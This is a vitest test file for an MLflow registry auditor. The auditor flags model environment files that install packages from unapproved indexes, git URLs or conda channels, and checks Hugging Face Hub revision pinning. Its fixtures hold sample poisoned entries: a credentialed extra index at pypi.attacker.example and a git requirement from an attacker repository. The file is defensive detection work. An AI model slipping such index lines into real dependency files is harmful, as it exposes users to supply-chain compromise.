import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { replayEvents } from '../../../bridge/replay.js';
import { MlflowConfig } from '../../../connectors/mlflow/config.js';
import { createMlflowConnector } from '../../../connectors/mlflow/index.js';
import type { ConnectorDeps } from '../../../core/connector.js';
import { Ingestor } from '../../../core/ingest.js';
import { packageSourceFactsOfCondaYaml, packageSourceFactsOfRequirements } from '../../../core/integrity/packages.js';
import { silentLogger } from '../../../core/log.js';
import { RulesConfig } from '../../../core/rules/engine.js';
import { NormalizedEvent } from '../../../core/schema/index.js';
import { Spool } from '../../../core/spool/index.js';
import { hubModelsOfMlmodel } from '../../../connectors/mlflow/mlmodel.js';
import { FakeMlflow } from './fake-mlflow.js';

/**
 * An MLflow model's own environment files (requirements.txt, conda.yaml, python_env.yaml, as `mlflow.<flavor>.log_model`
 * writes them) say where `pyfunc`'s env restore and `mlflow models serve` install its packages from: the registry
 * auditor reads them while hashing, into `ml.model.package_sources`, and serving.unverified_image judges them.
 */
const T0 = 1755680000000;
const RULE = 'serving.unverified_image';
let fake: FakeMlflow;
let dir: string;
let spool: Spool | undefined;

beforeEach(async () => {
  fake = new FakeMlflow();
  await fake.start();
  dir = mkdtempSync(join(tmpdir(), 'mltrail-mlflow-env-'));
});
afterEach(async () => {
  spool?.close();
  spool = undefined;
  await fake.stop();
  rmSync(dir, { recursive: true, force: true });
});

/** One auditor pass over the fake registry; its committed events. */
async function audit(): Promise<NormalizedEvent[]> {
  spool = Spool.open({ dir });
  const config = MlflowConfig.parse({ poll: { tracking_uri: fake.url, page_size: 50, max_attempts: 2, retry_initial_ms: 5, retry_max_ms: 10, request_timeout_ms: 3000 } });
  const deps: ConnectorDeps<MlflowConfig> = { config, ingest: new Ingestor(spool, silentLogger()), spool, logger: silentLogger(), server: { host: '127.0.0.1', port: 0, bodyLimitBytes: 1 << 20 }, dataDir: dir, keepRaw: true, env: {} };
  const poller = createMlflowConnector({ now: () => T0 + 3_600_000 }).pollers!(deps)[0] as unknown as { runOnce(): Promise<boolean> };
  expect(await poller.runOnce()).toBe(true);
  return spool.read('test', 100_000, 0).map((r) => NormalizedEvent.parse(JSON.parse(r.body)));
}
const alertsOf = (evs: NormalizedEvent[], rules: Record<string, unknown> = {}) => replayEvents(evs, { rules: RulesConfig.parse(rules) }).alerts.filter((a) => a.rule_id === RULE);
const hashOf = (evs: NormalizedEvent[], name: string) => evs.find((e) => e.action === 'model_version.hash_registered' && e.resource?.name === name)!;

/** The files `mlflow.sklearn.log_model` writes (MLflow 2.17), `requirements` as its requirements.txt. */
const sklearnModel = (requirements: string, conda?: string) => ({
  MLmodel: 'artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    python_version: 3.11.9\n',
  'model.pkl': 'pickled-weights',
  'requirements.txt': requirements,
  'conda.yaml': conda ?? 'channels:\n- conda-forge\ndependencies:\n- python=3.11.9\n- pip<=24.2\n- pip:\n  - mlflow==2.17.0\n  - cloudpickle==3.0.0\n  - scikit-learn==1.5.2\nname: mlflow-env\n',
  'python_env.yaml': 'python: 3.11.9\nbuild_dependencies:\n- pip==24.2\n- setuptools==74.1.2\n- wheel==0.44.0\ndependencies:\n- -r requirements.txt\n',
});

describe('MLflow model environment files', () => {
  it('a version whose requirements.txt or conda.yaml names a foreign index, a git+https requirement or a user channel alerts on serving.unverified_image; MLflow\'s defaults do not', async () => {
    fake.addModel('fraud', T0);
    fake.addModel('churn', T0);
    fake.addModel('plain', T0);
    fake.addVersion('fraud', '1', T0 + 10, sklearnModel('--extra-index-url https://ci:tok3n@pypi.attacker.example/simple\nmlflow==2.17.0\ncloudpickle==3.0.0\nscikit-learn==1.5.2\nfraud-features @ git+https://github.com/attacker/features.git@main\n'));
    fake.addVersion('churn', '1', T0 + 20, sklearnModel('mlflow==2.17.0\n', 'channels:\n- conda-forge\n- some-user\ndependencies:\n- python=3.11.9\n- pip:\n  - --index-url https://pypi.org/simple\n  - mlflow==2.17.0\n'));
    fake.addVersion('plain', '1', T0 + 30, sklearnModel('mlflow==2.17.0\ncloudpickle==3.0.0\nscikit-learn==1.5.2\n'));
    const evs = await audit();
    const fraud = hashOf(evs, 'fraud');
    expect(fraud.ml?.model?.package_sources).toEqual(['conda:conda-forge', 'https://[redacted]@pypi.attacker.example/simple', 'git+https://github.com/attacker/features.git@main']);
    expect(JSON.stringify(fraud)).not.toContain('tok3n');
    expect(hashOf(evs, 'churn').ml?.model?.package_sources).toEqual(['conda:conda-forge', 'conda:some-user', 'https://pypi.org/simple']);
    expect(hashOf(evs, 'plain').ml?.model?.package_sources).toEqual(['conda:conda-forge']);

    const alerts = alertsOf(evs).sort((a, b) => (String(a.details?.model) < String(b.details?.model) ? 1 : -1));
    expect(alerts.map((a) => [a.entity.id, a.severity, a.details?.package_sources])).toEqual([
      ['fraud/1', 'high', ['https://[redacted]@pypi.attacker.example/simple', 'git+https://github.com/attacker/features.git@main']],
      ['churn/1', 'high', ['conda:some-user']],
    ]);
    expect(alerts[0]!.summary).toContain('its environment installs packages from https://[redacted]@pypi.attacker.example/simple, not an allowed package source');
    const allowed = alertsOf(evs, { [RULE]: { allowed_package_sources: ['pypi.org', 'pypi.attacker.example', 'github.com/attacker/*'], allowed_conda_channels: ['conda-forge', 'some-user'] } });
    expect(allowed).toEqual([]);
  });

  it('a `${VAR}` index in requirements.txt is unverifiable: medium, unless trust_hidden_package_sources', async () => {
    fake.addModel('fraud', T0);
    fake.addVersion('fraud', '1', T0 + 10, sklearnModel('--index-url ${PIP_INDEX}\nmlflow==2.17.0\n'));
    const evs = await audit();
    expect(hashOf(evs, 'fraud').ml?.model?.package_sources_unverifiable).toEqual(['--index-url ${PIP_INDEX}: PIP_INDEX not set in the request']);
    expect(alertsOf(evs).map((a) => a.severity)).toEqual(['medium']);
    expect(alertsOf(evs, { [RULE]: { trust_hidden_package_sources: true } })).toEqual([]);
  });
});

describe('the parsers', () => {
  it('requirements: option lines, continuations, comments, URL requirements; a local -r names nothing', () => {
    expect(packageSourceFactsOfRequirements('# pinned\n-i https://a.example/simple\n--find-links \\\n  https://f.example/wheels\nx==1 # --index-url https://not.read/\n-r base.txt\ny @ https://w.example/y-1.whl\n').sources).toEqual([
      'https://a.example/simple', 'https://f.example/wheels', 'https://w.example/y-1.whl',
    ]);
  });
  it('conda.yaml: channels (URL or name; nodefaults is none), `channel::pkg`, pip lines; python_env.yaml lines; no YAML, nothing', () => {
    expect(packageSourceFactsOfCondaYaml('channels: [nodefaults, https://conda.corp.example/ml]\ndependencies: [other::pkg, {pip: ["--extra-index-url https://e.example/s"]}]\n').sources).toEqual([
      'https://conda.corp.example/ml', 'https://e.example/s', 'conda:other',
    ]);
    expect(packageSourceFactsOfCondaYaml('python: 3.11\ndependencies:\n- -r requirements.txt\n- --extra-index-url https://e.example/s\n').sources).toEqual(['https://e.example/s']);
    expect(packageSourceFactsOfCondaYaml(': bad: [yaml')).toEqual({ sources: [], unverifiable: [] });
    expect(packageSourceFactsOfCondaYaml('- a list')).toEqual({ sources: [], unverifiable: [] });
  });
});

/** The MLmodel `mlflow.transformers.log_model` writes (MLflow 2.17 / 3.x); `save_pretrained=False` leaves the weights on the Hub. */
const GPT2_SHA = '607a30d783dfa663caf39e06633721c8d4cfcd7e';
const transformersMlmodel = (opts: { savePretrained?: boolean; repo?: string; revision?: string } = {}) => {
  const repo = opts.repo ?? 'openai-community/gpt2';
  const rev = opts.revision ?? GPT2_SHA;
  return [
    'artifact_path: model', 'flavors:', '  python_function:', '    env:', '      conda: conda.yaml', '      virtualenv: python_env.yaml',
    '    loader_module: mlflow.transformers', '    python_version: 3.11.9', '  transformers:', '    code: null', '    components:', '    - tokenizer',
    '    framework: pt', '    instance_type: TextGenerationPipeline',
    ...(opts.savePretrained ? ['    model_binary: model'] : []),
    '    pipeline_model_type: GPT2LMHeadModel', `    source_model_name: ${repo}`,
    ...(opts.savePretrained ? [] : [`    source_model_revision: ${rev}`]),
    '    task: text-generation',
    ...(opts.savePretrained ? [] : [`    tokenizer_name: ${repo}`, `    tokenizer_revision: ${rev}`]),
    '    tokenizer_type: GPT2TokenizerFast', '    transformers_version: 4.44.2', 'mlflow_version: 2.17.0', '',
  ].join('\n');
};
const transformersModel = (mlmodel: string) => ({ ...sklearnModel('mlflow==2.17.0\ntransformers==4.44.2\ntorch==2.4.1\n'), MLmodel: mlmodel });

describe('MLflow transformers models that load their weights from the Hugging Face Hub', () => {
  it('a model logged with save_pretrained=False names its Hub repository and commit (ml.model.hub_id / hub_revision / hub_models); pinned, no alert', async () => {
    fake.addModel('gpt', T0);
    fake.addVersion('gpt', '1', T0 + 10, transformersModel(transformersMlmodel()));
    const evs = await audit();
    const m = hashOf(evs, 'gpt').ml?.model;
    expect([m?.hub_id, m?.hub_revision, m?.hub_models]).toEqual(['openai-community/gpt2', GPT2_SHA, [{ id: 'openai-community/gpt2', revision: GPT2_SHA, task: 'text-generation' }]]);
    expect(alertsOf(evs)).toEqual([]);
    // allowed_hub_models judges the repository as allowed_repositories judges an image's.
    const outside = alertsOf(evs, { [RULE]: { allowed_hub_models: ['meta-llama/*'] } });
    expect(outside.map((a) => [a.entity.id, a.severity, a.details?.hub_models])).toEqual([['gpt/1', 'high', [`openai-community/gpt2@${GPT2_SHA}`]]]);
    expect(outside[0]!.summary).toContain('it loads its weights from the Hugging Face Hub when loaded: Hugging Face model openai-community/gpt2 is not in allowed_hub_models');
  });

  it('a revision that is a branch (an MLmodel written by hand: MLflow records the commit) alerts on require_hub_commit; off, it does not', async () => {
    fake.addModel('gpt', T0);
    fake.addVersion('gpt', '1', T0 + 10, transformersModel(transformersMlmodel({ repo: 'someuser/gpt2-finetuned', revision: 'main' })));
    const evs = await audit();
    const alerts = alertsOf(evs);
    expect(alerts.map((a) => [a.entity.id, a.severity, a.details?.hub_models])).toEqual([['gpt/1', 'high', ['someuser/gpt2-finetuned@main']]]);
    expect(alerts[0]!.summary).toContain('Hugging Face model someuser/gpt2-finetuned at revision main is not pinned to a commit');
    expect(alertsOf(evs, { [RULE]: { require_hub_commit: false } })).toEqual([]);
  });

  it('a model saved with its weights (the default: model_binary) loads nothing from the Hub: its source_model_name is no hub_id', async () => {
    fake.addModel('gpt', T0);
    fake.addVersion('gpt', '1', T0 + 10, transformersModel(transformersMlmodel({ savePretrained: true, repo: 'someuser/gpt2-finetuned' })));
    const evs = await audit();
    const m = hashOf(evs, 'gpt').ml?.model;
    expect([m?.hub_id, m?.hub_models]).toEqual([undefined, undefined]);
    expect(alertsOf(evs, { [RULE]: { allowed_hub_models: ['meta-llama/*'] } })).toEqual([]);
  });
});

describe('hubModelsOfMlmodel', () => {
  it('reads the model and its components; a local path, another flavor, or YAML that does not parse name none', () => {
    expect(hubModelsOfMlmodel(transformersMlmodel({ repo: 'a/b', revision: 'v1' }))).toEqual([{ id: 'a/b', revision: 'v1', task: 'text-generation' }]);
    expect(hubModelsOfMlmodel('flavors:\n  transformers:\n    source_model_name: a/b\n    source_model_revision: ' + GPT2_SHA + '\n    components: [tokenizer]\n    tokenizer_name: c/tok\n    tokenizer_revision: main\n    processor_type: X\n    processor_name: d/proc\n')).toEqual([
      { id: 'a/b', revision: GPT2_SHA }, { id: 'c/tok', revision: 'main' }, { id: 'd/proc' },
    ]);
    expect(hubModelsOfMlmodel('flavors:\n  transformers:\n    source_model_name: /tmp/checkpoint\n    source_model_revision: abc\n')).toEqual([]);
    expect(hubModelsOfMlmodel('flavors:\n  sklearn:\n    source_model_name: a/b\n    source_model_revision: abc\n')).toEqual([]);
    expect(hubModelsOfMlmodel(': bad: [yaml')).toEqual([]);
    expect(hubModelsOfMlmodel(undefined)).toEqual([]);
  });
});
